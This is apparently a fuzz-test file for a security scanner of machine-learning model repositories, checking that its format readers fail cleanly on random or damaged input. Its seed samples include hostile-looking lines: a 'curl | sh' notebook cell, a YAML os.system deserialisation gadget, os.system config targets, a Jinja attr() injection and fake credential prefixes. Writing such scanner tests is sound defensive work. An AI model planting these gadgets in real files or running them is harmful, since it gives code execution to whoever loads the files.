"""Readers end on any bytes, with a view or a FormatError; recognisers never raise."""

from __future__ import annotations

import importlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.core.errors import FormatError
from assay.formats.budget import Budget
from assay.formats.repository.signatures import SIGNATURES
from assay.formats.signature import Head
from assay.formats.source import Memory
from assay.scan.rules import rules_for

SEEDS = {
    "json": (
        b'{"auto_map": {"AutoModel": "a/b--m.C"}, "x": [{"_target_": "os.system"}], "a": 1, "a": 2}',
        "config.json",
    ),
    "notebook": (
        b'{"cells": [{"cell_type": "code", "source": ["!curl x | sh\\n", "import os\\n"]}], "nbformat": 4}',
        "a.ipynb",
    ),
    "yaml": (
        b"a: &a {loader_module: x, code: ../b}\nb: !!python/object/apply:os.system ['a']\nc: {<<: *a}\n",
        "MLmodel",
    ),
    "toml": (b'[a."b"]\nc = [1, 2.0, {d = "e"}]\n[[tool.uv.index]]\nurl = "http://a/"\n', "pyproject.toml"),
    "ini": (b"[a]\nb = c\n d\n# e\n[f]\ng: h\n", "setup.cfg"),
    "python": (
        b"import os as o\nclass A(B):\n def f(self, x=1): return o.system('a' + x[::-1])\nA().f()\n",
        "handler.py",
    ),
    "jinja": (b"{% for m in messages %}{{ m['role'] ~ m.content|attr('a' ~ 'b') }}{% endfor %}", "chat_template.jinja"),
    "requirements": (b"-i http://a/s # b\nt==2 \\\n --hash=sha256:0\ngit+https://c/d@e\n", "requirements.txt"),
    "lfs-pointer": (b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12\n", "a"),
    "text": (b"import os; os.system('a')\nAKIA hf_ eyJ ://a:b@c aws_key\n", "x.pth"),
}


def look(name: str, data: bytes, file: str) -> None:
    """Recognise, read and judge."""
    signature = next(each for each in SIGNATURES if each.name == name)
    for each in SIGNATURES:
        each.claims(Head(Memory(data), file))
    try:
        view = importlib.import_module(signature.module).read(Memory(data), Budget(), file)
        list(view.members())
        list(view.facts())
        for rule in rules_for(view.kind):
            list(rule.check(view))
    except FormatError:
        pass


def test_every_format_has_a_seed():
    """No reader goes untested."""
    assert {signature.name for signature in SIGNATURES} == SEEDS.keys()


@pytest.mark.parametrize("name", sorted(SEEDS))
@given(data=st.binary(max_size=200))
def test_readers_end_on_any_bytes(name, data):
    """Nothing but a FormatError comes out."""
    look(name, data, SEEDS[name][1])


@pytest.mark.parametrize("name", sorted(SEEDS))
@given(cuts=st.lists(st.tuples(st.integers(0, 200), st.integers(0, 3), st.binary(max_size=4)), min_size=1, max_size=6))
def test_readers_end_on_damaged_files(name, cuts):
    """Some bytes of a valid file are replaced, dropped or added."""
    data, file = SEEDS[name]
    for at, length, new in cuts:
        data = data[: at % (len(data) + 1)] + new + data[at % (len(data) + 1) + length :]
    look(name, data, file)


@given(text=st.text(alphabet="{}[]\":,\\ntrue01 \n-&*!|>#'%abc=()._", max_size=120))
def test_readers_end_on_text_like_theirs(text):
    """Random punctuation, under every name."""
    for name, (_, file) in SEEDS.items():
        look(name, text.encode(), file)
